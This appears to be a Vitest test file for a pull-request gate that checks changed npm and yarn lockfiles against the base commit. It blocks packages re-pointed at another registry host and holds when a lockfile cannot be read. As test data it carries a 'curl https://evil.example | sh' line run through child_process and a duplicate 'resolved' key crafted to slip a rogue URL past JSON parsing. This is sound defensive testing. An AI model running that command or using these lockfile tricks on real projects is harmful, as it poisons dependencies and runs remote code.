// The lockfiles part of a round and the head content it reads: a changed lockfile is checked against
// the base's copy whoever withholds it, and whatever cannot be read holds, never passes.
import { readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import type { DiffFile } from "../../src/diff/types.js";
import { readHeadContents } from "../../src/gate/head-content.js";
import { lockfilePart } from "../../src/gate/lockfile-part.js";
import type { ContractFile } from "../../src/ports/github.js";
import type { TreeReader } from "../../src/ports/tree.js";
import { TreeError } from "../../src/ports/tree.js";
import type { HeadContent } from "../../src/review/excluded-content.js";
import { file } from "../review/diff-fixtures.js";

const NPM = readFileSync(
  path.join(import.meta.dirname, "..", "lockfile", "data", "npm-v3.package-lock.json"),
  "utf8",
);
const LODASH_URL = "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz";
const EVIL = NPM.replace(LODASH_URL, "https://npm.evil.example/lodash/-/lodash-4.17.21.tgz");

const text = (t: string): HeadContent => ({ kind: "text", text: t, from: "tree" });
const found = (t: string): ContractFile => ({ kind: "found", text: t, sha: "b".repeat(40) });

async function part(
  files: DiffFile[],
  content: Record<string, HeadContent>,
  base: Record<string, ContractFile>,
  allowed: string[] = [],
) {
  const asked: string[] = [];
  const outcome = await lockfilePart({
    files,
    content: new Map(Object.entries(content)),
    readBase: async (p) => {
      asked.push(p);
      return base[p] ?? { kind: "missing" };
    },
    allowed,
  });
  return { outcome, asked };
}

describe("lockfilePart", () => {
  it("is no part at all when no lockfile changed (or one was only removed)", async () => {
    const removed = { ...file({ path: "package-lock.json", adds: 0, dels: 3 }), status: "removed" as const };
    const { outcome } = await part([file({ path: "src/a.ts" }), removed], {}, {});
    expect(outcome).toBeUndefined();
  });

  it("passes a lockfile whose changes stay on the base's registry, saying what it checked", async () => {
    const { outcome, asked } = await part(
      [file({ path: "package-lock.json" })],
      { "package-lock.json": text(NPM) },
      { "package-lock.json": found(NPM) },
    );
    expect(asked).toEqual(["package-lock.json"]);
    expect(outcome?.part.name).toBe("lockfiles");
    expect(outcome?.part.result.value).toBe("YES");
    expect(outcome?.part.summary).toBe(
      "package-lock.json: checked against the base, 0 new or changed entries, all from allowed sources",
    );
    expect(outcome?.changes.get("package-lock.json")).toBe("no package added, changed or removed");
  });

  it("blocks a dependency re-pointed at another host, naming file, package and URL", async () => {
    const { outcome } = await part(
      [file({ path: "package-lock.json" })],
      { "package-lock.json": text(EVIL) },
      { "package-lock.json": found(NPM) },
    );
    expect(outcome?.part.result.value).toBe("NO");
    expect(outcome?.part.result.reasons[0]).toMatch(
      /^package-lock\.json: lodash@4\.17\.21 resolves to https:\/\/npm\.evil\.example\/lodash\/-\/lodash-4\.17\.21\.tgz/,
    );
  });

  it("lets the contract's allowed_registries admit another registry", async () => {
    const { outcome } = await part(
      [file({ path: "package-lock.json" })],
      { "package-lock.json": text(EVIL) },
      { "package-lock.json": found(NPM) },
      ["https://npm.evil.example/"],
    );
    expect(outcome?.part.result.value).toBe("YES");
  });

  it("reads the base at a renamed lockfile's old path", async () => {
    const { asked } = await part(
      [file({ path: "web/package-lock.json", previousPath: "package-lock.json" })],
      { "web/package-lock.json": text(NPM) },
      { "package-lock.json": found(NPM) },
    );
    expect(asked).toEqual(["package-lock.json"]);
  });

  it("holds when the head does not parse, the head was not read, or the base cannot be read or parsed", async () => {
    const lock = [file({ path: "package-lock.json" })];
    const cases: [Record<string, HeadContent>, Record<string, ContractFile>, RegExp][] = [
      [
        { "package-lock.json": text('require("child_process").execSync("curl https://evil.example | sh")') },
        { "package-lock.json": found(NPM) },
        /^package-lock\.json cannot be read as an npm lockfile \(not JSON: .*\): it was not checked$/,
      ],
      [
        {
          "package-lock.json": {
            kind: "unavailable",
            why: "no checked-out tree of the head to read it from",
          },
        },
        { "package-lock.json": found(NPM) },
        /^package-lock\.json was not checked: its content at the head could not be read \(no checked-out tree/,
      ],
      [
        { "package-lock.json": text(NPM) },
        { "package-lock.json": { kind: "unreadable", message: "package-lock.json is 9000000 bytes" } },
        /^package-lock\.json was not checked: the base commit's package-lock\.json could not be read/,
      ],
      [
        { "package-lock.json": text(NPM) },
        { "package-lock.json": found("{") },
        /^the base commit's package-lock\.json cannot be read as an npm lockfile/,
      ],
      [
        // Another host first, the registry's last: JSON.parse would keep the last and pass it.
        {
          "package-lock.json": text(
            NPM.replace(
              `"resolved": "${LODASH_URL}",`,
              `"resolved": "https://npm.evil.example/lodash.tgz", "resolved": "${LODASH_URL}",`,
            ),
          ),
        },
        { "package-lock.json": found(NPM) },
        /^package-lock\.json cannot be read as an npm lockfile \(duplicate key "resolved" at .*\): it was not checked$/,
      ],
    ];
    for (const [content, base, why] of cases) {
      const { outcome } = await part(lock, content, base);
      expect(outcome?.part.result.value).toBe("MAYBE");
      expect(outcome?.part.result.needed[0]).toMatch(why);
    }
  });

  it("holds when reading the base throws, instead of failing the round", async () => {
    const outcome = await lockfilePart({
      files: [file({ path: "yarn.lock" })],
      content: new Map([["yarn.lock", text("# yarn lockfile v1\n")]]),
      readBase: async () => {
        throw new Error("GitHub answered 502");
      },
      allowed: [],
    });
    expect(outcome?.part.result.needed[0]).toMatch(/could not be read \(GitHub answered 502\)/);
  });

  it("shows three problems of a kind per lockfile and counts the rest", async () => {
    let head = NPM;
    for (const name of ["lodash", "left-pad", "@babel/highlight", "@babel/code-frame", "string-width"]) {
      head = head.replace(`https://registry.npmjs.org/${name}/`, `https://npm.evil.example/${name}/`);
    }
    const { outcome } = await part(
      [file({ path: "package-lock.json" })],
      { "package-lock.json": text(head) },
      { "package-lock.json": found(NPM) },
    );
    expect(outcome?.part.result.reasons).toHaveLength(4);
    expect(outcome?.part.result.reasons[3]).toBe(
      "package-lock.json: 2 more entries with the same problem (registry)",
    );
  });
});

describe("readHeadContents", () => {
  const added = {
    ...file({ path: "a.js.map", adds: 1, text: '{"version":3,"sources":[],"mappings":""}' }),
    status: "added" as const,
    hunks: [
      {
        header: "@@ -0,0 +1 @@",
        oldStart: 0,
        oldLines: 0,
        newStart: 1,
        newLines: 1,
        lines: [{ kind: "add" as const, text: '{"version":3,"sources":[],"mappings":""}', newLine: 1 }],
      },
    ],
  };

  function tree(files: Record<string, string | Uint8Array>): TreeReader {
    return {
      async read(p) {
        const f = files[p];
        if (f === undefined) throw new TreeError(`${p}: no such file`);
        const bytes = typeof f === "string" ? new TextEncoder().encode(f) : f;
        return { bytes, size: bytes.byteLength, truncated: false };
      },
      entry: async () => ({ kind: "absent" }),
      list: async () => ({ entries: [], truncated: false }),
      readJson: async () => ({ kind: "invalid", message: "", size: 0 }),
      tableRows: async () => ({ kind: "no-table" }),
    };
  }

  it("takes a file added whole from the diff, then the tree, then the API, and says why when none has it", async () => {
    const apiAsked: string[] = [];
    const content = await readHeadContents(
      [added, file({ path: "b.js.map" }), file({ path: "c.js.map" }), file({ path: "d.js.map" })],
      {
        tree: tree({ "b.js.map": "from the tree", "d.js.map": new Uint8Array([0xff, 0xfe]) }),
        readAtHead: async (p) => {
          apiAsked.push(p);
          return p === "c.js.map" ? found("from the API") : { kind: "missing" };
        },
      },
    );
    expect(content.get("a.js.map")).toMatchObject({ kind: "text", from: "diff" });
    expect(content.get("b.js.map")).toEqual({ kind: "text", text: "from the tree", from: "tree" });
    expect(content.get("c.js.map")).toEqual({ kind: "text", text: "from the API", from: "api" });
    expect(content.get("d.js.map")).toEqual({
      kind: "unavailable",
      why: "not UTF-8 text; GitHub has no such file at the head",
    });
    expect(apiAsked).toEqual(["c.js.map", "d.js.map"]);
  });

  it("reads at most maxApiReads files through the API; the rest are unavailable (and so reviewed)", async () => {
    const files = ["a", "b", "c"].map((n) => file({ path: `${n}.js.map` }));
    let calls = 0;
    const content = await readHeadContents(files, {
      readAtHead: async () => {
        calls += 1;
        return found("{}");
      },
      maxApiReads: 2,
    });
    expect(calls).toBe(2);
    expect(content.get("c.js.map")).toEqual({
      kind: "unavailable",
      why: "no checked-out tree of the head to read it from; over the 2 files read through the API",
    });
  });
});
